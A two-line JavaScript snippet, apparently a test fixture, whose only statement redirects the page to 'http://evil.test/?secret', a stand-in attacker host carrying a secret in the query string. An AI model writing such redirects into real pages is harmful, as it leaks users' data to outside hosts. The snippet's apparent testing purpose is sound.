// Navigates.

location.href = 'http://evil.test/?secret';
